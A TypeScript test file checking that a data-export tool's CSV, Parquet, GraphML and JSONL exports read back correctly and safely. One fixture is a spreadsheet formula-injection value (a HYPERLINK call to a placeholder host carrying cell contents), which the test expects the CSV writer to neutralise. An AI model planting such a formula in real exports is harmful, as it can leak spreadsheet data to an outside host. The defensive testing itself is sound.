/** What other tools read in an export of a field whose texts mean harm. */
import { execFileSync } from 'node:child_process'
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type DirectedGraph, MultiDirectedGraph } from 'graphology'
import { parse } from 'graphology-graphml'
import { asyncBufferFromFile, parquetReadObjects } from 'hyparquet'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { readManifest } from '../../src/control/merge/field-files.ts'
import { fieldNamed } from '../../src/control/status/field-named.ts'
import { EXPORT_FORMATS, exportToFolder } from '../../src/field/export/export-field.ts'
import { type Field, openField } from '../../src/field/open-field.ts'
import type { HandMade } from '../support/hand-made-workspace.ts'
import { makeMergedWorkspace } from '../support/merged-workspace.ts'

const HOSTILE: Readonly<Record<string, string>> = {
  'heat-1': '=HYPERLINK("http://x.example/"&A1,"see")',
  'heat-2': 'a "quoted", text\nwith two lines\r\nand <b>tags</b> & \u0001 ]]>',
  'light-1': ' ',
  'light-2': 'ünïcödé 🜁 ',
}

let world: HandMade
let field: Field
let folder: string
beforeEach(async () => {
  world = await makeMergedWorkspace()
  folder = mkdtempSync(join(tmpdir(), 'rff-export-'))
  world.changeCorpus((db) => {
    const change = db.prepare('UPDATE facts SET text = ? WHERE fact_id = ?')
    for (const [factId, text] of Object.entries(HOSTILE)) change.run(text, factId)
  })
  const { files } = fieldNamed(world.workspace, null)
  field = openField(files.database, world.workspace.corpusPath)
})
afterEach(() => {
  field.close()
  world.remove()
  rmSync(folder, { recursive: true })
})

function write(format: string, dir = join(folder, format)): string {
  const { fieldTag, files } = fieldNamed(world.workspace, null)
  const { field_digest: fieldDigest, complete: isComplete } = readManifest(files)
  exportToFolder(field, EXPORT_FORMATS[format]!, { fieldTag, fieldDigest, isComplete }, dir)
  return dir
}

test('sqlite3 imports every CSV table with as many rows as the manifest says, and no cell is a formula', () => {
  const dir = write('csv')
  const { files } = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8')) as {
    files: { name: string; rows: number }[]
  }
  const database = join(folder, 'imported.sqlite')
  for (const { name } of files)
    execFileSync('sqlite3', [database, `.import --csv ${join(dir, name)} ${name.replace('.csv', '')}`])
  const ask = (sql: string) =>
    JSON.parse(execFileSync('sqlite3', ['-json', database, sql], { encoding: 'utf8' }) || '[]')
  for (const { name, rows } of files.filter((file) => file.rows > 0))
    expect(ask(`SELECT count(*) AS n FROM ${name.replace('.csv', '')}`)).toEqual([{ n: rows }])
  const texts = new Map(
    (ask('SELECT fact_id, text FROM members') as { fact_id: string; text: string }[]).map((row) => [
      row.fact_id,
      row.text,
    ]),
  )
  expect(texts.get('heat-1')).toBe(`'${HOSTILE['heat-1']}`)
  expect(texts.get('heat-2')).toBe(HOSTILE['heat-2'])
  expect(texts.get('light-2')).toBe(HOSTILE['light-2'])
})

test('hyparquet reads every table, texts letter by letter and numbers as numbers', async () => {
  const dir = write('parquet')
  const read = async (name: string) =>
    parquetReadObjects({ file: await asyncBufferFromFile(join(dir, `${name}.parquet`)) })
  const members = await read('members')
  expect(members).toHaveLength(4)
  for (const { text, fact_id: factId } of members) expect(text).toBe(HOSTILE[factId as string])
  expect(await read('edges')).toEqual([
    expect.objectContaining({ src_name: 'Light', rel_type: 'causes', dst_name: 'Heat', support_count: 1n }),
  ])
  expect(await read('evidence')).toHaveLength(1)
  expect(await read('duplicates')).toEqual([
    expect.objectContaining({ of_fact_id: 'heat-2', fact_id: 'heat-2b' }),
  ])
})

test('graphology reads concepts and edges with their attributes', () => {
  const text = readFileSync(join(write('graphml'), 'field.graphml'), 'utf8')
  const graph = parse(MultiDirectedGraph, text) as DirectedGraph
  expect([graph.order, graph.size]).toEqual([2, 1])
  const [edge] = graph.edges()
  expect(graph.getEdgeAttributes(edge)).toMatchObject({ rel_type: 'causes', weight: 1 })
  expect(graph.getNodeAttributes(graph.source(edge))).toMatchObject({ label: 'Light', members: 2 })
})

test.each(Object.keys(EXPORT_FORMATS))(
  '%s gives the same bytes twice, over an export that is there',
  (format) => {
    const dir = write(format)
    const before = readdirSync(dir).map((name) => readFileSync(join(dir, name)).toString('latin1'))
    write(format, dir)
    expect(readdirSync(dir).map((name) => readFileSync(join(dir, name)).toString('latin1'))).toEqual(before)
    expect(readdirSync(folder)).toEqual([format])
  },
)

test('a place that holds anything else is refused, and nothing there is touched', () => {
  const refused = expect.objectContaining({ code: 'file_exists' })
  const fieldDir = join(world.workspace.fieldDir, fieldNamed(world.workspace, null).fieldTag)
  const before = readdirSync(fieldDir)
  expect(() => write('jsonl', fieldDir)).toThrow(refused) // it has a manifest, of another kind
  expect(readdirSync(fieldDir)).toEqual(before)
  writeFileSync(join(folder, 'file'), '')
  expect(() => write('jsonl', join(folder, 'file'))).toThrow(refused)
  mkdirSync(join(folder, 'empty'))
  symlinkSync(join(folder, 'empty'), join(folder, 'link'))
  expect(() => write('jsonl', join(folder, 'link'))).toThrow(refused)
  const dir = write('csv')
  writeFileSync(join(dir, 'notes.txt'), 'mine')
  expect(() => write('csv', dir)).toThrow(refused)
  expect(existsSync(join(dir, 'notes.txt'))).toBe(true)
})

test('an export that fails on the way leaves the one before and nothing beside it', () => {
  const dir = write('jsonl')
  const before = readFileSync(join(dir, 'manifest.json'), 'utf8')
  const broken = {
    name: 'jsonl',
    isStream: true,
    write: () => {
      throw new Error('no room')
    },
  }
  expect(() =>
    exportToFolder(field, broken, { fieldTag: 't', fieldDigest: 'd', isComplete: true }, dir),
  ).toThrow('no room')
  expect(readFileSync(join(dir, 'manifest.json'), 'utf8')).toBe(before)
  expect(readdirSync(folder)).toEqual(['jsonl'])
})
